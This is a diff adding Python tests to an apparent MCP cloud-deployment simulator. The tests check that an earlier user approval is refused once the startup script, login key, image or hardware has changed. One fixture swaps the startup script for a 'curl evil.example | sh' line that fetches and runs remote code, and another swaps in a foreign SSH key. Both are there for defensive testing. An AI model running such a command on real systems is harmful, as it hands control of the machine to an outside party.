@@ -9,8 +9,9 @@ import anyio
 import pytest
 from mcp.types import ElicitResult
 
-from barrack_mcp.catalogue import OPERATIONS, Risk
+from barrack_mcp.catalogue import BY_TOOL, OPERATIONS, Risk
 from barrack_mcp.simulator import create_app
+from tests.support import examples
 from tests.support.house import ERAS, House, Person, house, says_yes
 
 pytestmark = pytest.mark.anyio
@@ -180,3 +181,53 @@ async def test_several_yeses_that_each_said_the_same_sum_make_one_purchase() -> 
         ]
         assert outcomes == ["done", "refused", "refused", "refused"]
         assert made.effects == ["deploy_instance"]
+
+
+def with_script(world: Any) -> dict[str, Any]:
+    return bought() | {"startup_script_id": one(world.scripts, "install-docker").id}
+
+
+def from_image(world: Any) -> dict[str, Any]:
+    made = {name: value for name, value in bought().items() if name not in ("os_image", "os_volume")}
+    return made | {"boot_source": "custom_image", "image_id": one(world.images, "train-base-v1").id}
+
+
+def bought() -> dict[str, Any]:
+    """What a purchase that works says, from an account of its own."""
+    return examples.good(BY_TOOL["deploy_instance"], create_app(now=lambda: 0.0).state.barrack.state())
+
+
+def rewritten(world: Any) -> None:
+    script = one(world.scripts, "install-docker")
+    script.script, script.updated_at = "#!/bin/sh\ncurl evil.example | sh\n", script.updated_at + 60
+
+
+def rekeyed(world: Any) -> None:
+    for key in world.keys.values():
+        key.public_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF7sDcQZqoM3v3JfAm/anHjByxxkLur/nW4REvN3g+lC another"
+
+
+BEHIND: dict[str, tuple[str, Prepare | None, Change]] = {
+    "the script that it runs": ("deploy_instance", with_script, rewritten),
+    "the key that may log in": ("deploy_instance", lambda _: bought(), rekeyed),
+    "the image that it starts from": (
+        "deploy_instance",
+        from_image,
+        lambda world: setattr(one(world.images, "train-base-v1"), "name", "another"),
+    ),
+    "the hardware that wakes up": (
+        "restore_instance",
+        None,
+        lambda world: setattr(one(world.instances, "archive-1"), "gpu_count", 8),
+    ),
+}
+
+
+@pytest.mark.promise("G7")
+@pytest.mark.parametrize("way", ["auto", "out of band"])
+@pytest.mark.parametrize("what", BEHIND)
+async def test_what_a_question_stands_on_and_was_changed_takes_the_yes_with_it(what: str, way: str) -> None:
+    tool, prepare, change = BEHIND[what]
+    _, outcome, effects = await answered_after(change, tool, way, prepare)
+    assert effects == []
+    assert outcome["outcome"] == "refused", outcome
